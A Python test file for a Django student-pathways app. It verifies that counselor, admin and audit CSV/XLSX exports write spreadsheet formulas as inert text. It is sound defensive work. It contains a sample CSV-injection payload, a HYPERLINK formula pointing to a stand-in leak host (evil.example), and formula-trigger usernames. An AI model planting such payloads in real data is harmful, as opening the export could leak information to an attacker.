"""Exports that cannot run formulas: a curator renames a school to a HYPERLINK formula, a student picks a username
that a spreadsheet would compute, and every CSV and XLSX the product writes (the counselor's class figures, the
admin's exports through django-import-export, the audit) opens them as text."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import User
from django.test import Client

from pathways.models import StudentRecommendation
from pathways.students.audit import audit_record
from pathways.students.roles import DATA_PROTECTION_GROUP, role_group
from programs.models import Institution, Program

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?leak","点击")'


@pytest.fixture
def renamed(six_personas: dict) -> Institution:
    """The school of one of walk_wang's suggestions, renamed by a careless (or hostile) curator."""
    first = StudentRecommendation.objects.get(student=six_personas["users"]["owner"]).programs[0]["program"]
    school = Program.objects.get(pk=first).institution
    Institution.objects.filter(pk=school.pk).update(name=FORMULA)
    return school


def test_the_counselors_class_csv_writes_a_formula_as_text(six_personas: dict, renamed: Institution) -> None:
    client = Client()
    client.force_login(six_personas["users"]["counselor"])
    response = client.get(f"/counsel/cohorts/{six_personas['values']['cohort_id']}/?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row[1] for row in rows[1:]]
    assert "'" + FORMULA in names and FORMULA not in names


@pytest.mark.parametrize("fmt", ["0", "1"])  # CSV, XLSX
def test_the_admin_exports_write_formulas_as_text(renamed: Institution, curator_client: Client, fmt: str) -> None:
    columns = {f"institutionresource_{f}": "on" for f in ["name", "kind"]}
    response = curator_client.post("/admin/programs/institution/export/", {"format": fmt, **columns})
    if fmt == "0":
        names = [row[0] for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        names = [cell.value for cell in sheet["A"]]
        assert all(cell.data_type != "f" for cell in sheet["A"])  # no cell is a formula
    assert "'" + FORMULA in names and FORMULA not in names
    assert "重庆电子科技职业大学" in names  # ordinary names are untouched


def test_the_audit_export_writes_a_computed_username_as_text(six_personas: dict) -> None:
    student = User.objects.create_user("+1-1", password="pw")
    audit_record(actor=six_personas["users"]["counselor"], student=student, action="review_view", reason="@SUM(A1)")
    officer = User.objects.create_user("dpo_he", password="pw", is_staff=True)
    officer.groups.add(role_group(DATA_PROTECTION_GROUP))
    client = Client()
    client.force_login(officer)
    response = client.post(
        "/admin/pathways/auditentry/export/",
        {
            "format": "0",
            **{f"auditresource_{f}": "on" for f in ["at", "actor", "student", "action", "detail"]},
        },
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[2] for row in rows if row[2].endswith("+1-1")] == ["'+1-1"]
